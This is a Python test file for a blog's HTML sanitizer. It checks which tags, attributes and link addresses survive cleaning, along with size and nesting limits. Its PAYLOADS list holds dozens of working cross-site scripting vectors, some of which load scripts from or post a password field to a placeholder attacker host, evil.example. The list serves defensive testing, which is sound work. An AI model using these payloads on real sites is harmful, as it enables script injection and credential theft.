"""What is left of a text after lib/html.py, and what it refuses to look at."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from fitblog.lib.html import ALLOWED, SCHEMES, SIZE_MAX, clean, refuse_oversized

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='java&#x0A;script&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='//javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='/x' onclick='alert(1)' style='position:fixed' target=_blank>x</a>",
    "<p style='background:url(javascript:alert(1))' class=x id=main>x</p>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<p title='>'><img src=x onerror=alert(1)></p>",
    "<<script>alert(1)//<</script>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p data-cke-onclick='CKEDITOR.tools.callFunction(1)'>x</p>",
]


class Reading(HTMLParser):
    """The tags, attributes and comments of a text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name == "href"]

    def handle_comment(self, text):
        self.comments.append(text)


def assert_is_clean(html: str) -> None:
    found = Reading(html)
    assert found.tags <= set(ALLOWED)
    assert all(name in ALLOWED[tag] for tag, name in found.attributes)
    assert found.comments == []
    for address in found.addresses:
        scheme = re.match(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\s-]*):", address)
        assert scheme is None or scheme[1].lower() in SCHEMES
        assert not re.match(r"[\s/\\]*[/\\][\s]*[/\\]", address)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_run_comes_through(payload):
    for text in (payload, f"<p>{payload}</p>", f"<table><tr><td>{payload}", f"<ul><li>{payload}"):
        assert_is_clean(clean(text))


TAGS = [*ALLOWED, "b", "h2", "div", "span", "form", "svg", "math", "style", "script", "object"]
PIECES = st.one_of(
    st.sampled_from(TAGS).map("<{}>".format),
    st.sampled_from(TAGS).map("</{}>".format),
    st.sampled_from(
        ["javascript:x", "//e.x", "/g/", "https://e.x", "mailto:a@e.x", "#a", "\\\\e"]
    ).map('<a href="{}">'.format),
    st.sampled_from(
        ["<!--", "-->", "<![CDATA[", "]]>", '"', "'", "<", ">", "&", "&nbsp;", " ", "\n"]
    ),
    st.text(max_size=5),
)
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@settings(derandomize=True, deadline=None, max_examples=300)
@given(TEXTS)
def test_any_text_comes_out_clean_and_stays_as_it_is(text):
    cleaned = clean(text)

    assert_is_clean(cleaned)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "name", ["title", "lang", "class", "id", "style", "dir", "data-x", "onclick"]
)
def test_no_tag_keeps_an_attribute_that_is_not_on_the_list(name):
    assert clean(f'<p {name}="x">One</p>') == "<p>One</p>"


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("/guides/hang/", "/guides/hang/"),
        ("#grip", "#grip"),
        ("?page=2", "?page=2"),
        ("https://example.org/a?b=1#c", "https://example.org/a?b=1#c"),
        ("mailto:coach@example.org", "mailto:coach@example.org"),
        ("tel:+4930123456", "tel:+4930123456"),
        ("//example.org/a", "https://example.org/a"),
        ("\\\\example.org", "https://example.org"),
        ("/\t/example.org", "https://example.org"),
        (" https://example.org ", "https://example.org"),
    ],
)
def test_an_address_is_kept_as_a_browser_reads_it(written, kept):
    assert clean(f'<a href="{written}">x</a>') == f'<a href="{kept}">x</a>'


def test_a_link_that_loses_its_address_leaves_its_words():
    assert clean('<p>Go <a href="ftp://x.org/">there</a> now</p>') == "<p>Go there now</p>"


@pytest.mark.parametrize("tag", ["script", "style", "svg", "math", "iframe", "template", "select"])
def test_what_is_no_text_goes_with_all_that_is_in_it(tag):
    assert clean(f"<p>Grip</p><{tag}>words</{tag}>") == "<p>Grip</p>"


@pytest.mark.parametrize("tag", ["form", "div", "span", "h2", "section", "button", "center"])
def test_of_other_tags_the_words_stay(tag):
    assert clean(f"<{tag}>words</{tag}>") == "words"


def test_a_table_keeps_its_parts_and_the_scope_of_its_heads():
    table = (
        '<table><caption>Sets</caption><thead><tr><th scope="col">Week</th></tr></thead>'
        "<tbody><tr><td>3</td></tr></tbody></table>"
    )

    assert clean(table) == table
    assert clean(table.replace("col", "evil")) == table.replace(' scope="col"', "")


def test_white_space_that_no_reader_sees_goes():
    assert clean("<p>\n One  two\t<br />\n three </p>\n\n<ul>\n  <li> a </li>\n</ul>\n") == (
        "<p>One two<br>three</p><ul><li>a</li></ul>"
    )


def test_white_space_between_words_stays():
    assert clean("<p><strong>One</strong> <em>two</em>&nbsp;three</p>") == (
        "<p><strong>One</strong> <em>two</em>&nbsp;three</p>"
    )


def test_half_a_character_is_no_character():
    assert clean("<p>a\ud800b</p>") == "<p>a?b</p>"


@pytest.mark.parametrize("character", ["x", "ü"])
def test_half_a_megabyte_is_taken_and_a_byte_more_is_refused(character):
    text = character * (SIZE_MAX // len(character.encode()))

    refuse_oversized(text)
    with pytest.raises(ValidationError, match="longer than 512 KB"):
        refuse_oversized(text + "x")


def test_a_text_that_grows_too_large_in_cleaning_is_refused():
    with pytest.raises(ValidationError, match="longer than 512 KB"):
        clean("&" * 200_000)


def test_a_text_nested_too_deep_is_refused_in_a_plain_sentence():
    with pytest.raises(ValidationError) as refused:
        clean("<blockquote>" * 101)

    assert refused.value.messages == [
        "This text nests more than 100 levels deep. Paste it as plain text."
    ]


def test_tags_that_no_browser_would_nest_are_nested_as_one_would():
    assert clean("<p>One<object></object><fieldset><p>Two") == "<p>One</p><p>Two</p>"


def test_tags_that_cannot_be_sorted_out_are_refused_in_a_plain_sentence():
    with pytest.raises(ValidationError, match="too tangled"):
        clean("<a><table><tr><td>" * 20)


@pytest.mark.parametrize("tag", ["b", "div", "blockquote", "ul><li", "svg><g", "table><tr><td"])
def test_a_hundred_thousand_nested_tags_are_refused_at_once(tag):
    text = f"<{tag}>" * (100_000 // (1 + tag.count(">")))
    began = time.process_time()

    with pytest.raises(ValidationError):
        clean(text[:SIZE_MAX])

    assert time.process_time() - began < 0.5
